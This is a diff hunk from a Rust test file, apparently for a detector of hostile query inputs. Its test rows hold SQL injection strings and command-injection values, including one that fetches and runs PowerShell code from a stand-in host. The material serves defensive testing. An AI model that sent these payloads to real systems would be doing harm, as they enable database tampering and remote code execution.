@@ -83,6 +83,7 @@ fn what_breaks_out_or_does_harm_still_counts() {
     let rows = [
         (Target::Query, "q", "it's' or age > 5 or 'a'='a"),
         (Target::Query, "q", "a'or'b'='b' or pin=code--"),
+        (Target::Query, "q", "1\" and pin=code-- "),
         (Target::Query, "q", "Java; powershell iex(iwr x.example)"),
         (Target::Query, "q", "x; ping localhost"),
         (Target::Query, "id", "1=1"),
